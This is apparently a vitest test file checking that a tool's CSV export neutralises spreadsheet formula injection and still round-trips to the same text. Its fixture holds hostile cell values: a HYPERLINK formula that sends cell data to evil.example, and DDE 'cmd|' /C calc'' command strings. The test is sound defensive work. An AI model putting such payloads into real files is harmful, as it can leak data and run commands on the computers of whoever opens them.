/**
 * Issue 14: `library export` writes captions from any Slack user into a CSV that people open in a
 * spreadsheet. A cell that begins with = + - @ (or a tab / carriage return) must not run as a
 * formula; the export must still ingest back to the same text.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config.ts';
import { makeLibraryCommands } from '../../src/library/commands.ts';
import { csvCell } from '../../src/library/csv.ts';
import { fakeEncoder } from '../helpers/fake-encoder.ts';
import { testImage } from '../helpers/images.ts';
import { runCommand } from '../helpers/run-command.ts';

let root: string;
const commandsFor = (dataDir: string) =>
  makeLibraryCommands({
    config: () => loadConfig({ DATA_DIR: dataDir, LOG_LEVEL: 'error' }),
    openEncoder: async () => fakeEncoder({ dims: 16 }),
    progress: false,
  });

const HOSTILE = {
  caption: '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  headline: '+1 (555) 0100 call now',
  body: "-2+3 cmd|' /C calc'!A0",
  cta: "@SUM(1+1)*cmd|' /C calc'!A0",
};

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'adc-csv-'));
  mkdirSync(join(root, 'in'));
  writeFileSync(join(root, 'in', 'a.jpg'), await testImage(1));
  writeFileSync(join(root, 'in', 'a.jpg.json'), JSON.stringify({ ...HOSTILE, brand: 'acme' }));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('library export against formula injection', () => {
  it('no exported cell starts a formula, and the CSV ingests back to the same text', async () => {
    const cmds = commandsFor(join(root, 'data'));
    expect((await runCommand(cmds, ['ingest', join(root, 'in'), '--json'])).code).toBe(0);
    const out = join(root, 'export');
    expect((await runCommand(cmds, ['library', 'export', out])).code).toBe(0);

    const rows = parse(readFileSync(join(out, 'creatives.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    for (const [col, cell] of Object.entries(rows[0])) expect(cell, col).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0].caption).toBe(`'${HOSTILE.caption}`);

    // Round trip: a fresh library made from the export holds the original text.
    const fresh = commandsFor(join(root, 'data2'));
    expect(JSON.parse((await runCommand(fresh, ['ingest', join(out, 'creatives.csv'), '--json'])).stdout)).toMatchObject({
      ingested: 1,
      failed: [],
    });
    const again = join(root, 'export2');
    await runCommand(fresh, ['library', 'export', again]);
    const back = parse(readFileSync(join(again, 'creatives.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    for (const k of Object.keys(HOSTILE)) expect(back[0][k], k).toBe(rows[0][k]);
  });

  it('neutralises tab and carriage-return starts, and leaves numbers and ordinary text alone', () => {
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('Save 40% today, friends')).toBe('"Save 40% today, friends"');
    expect(csvCell('plain')).toBe('plain');
  });
});
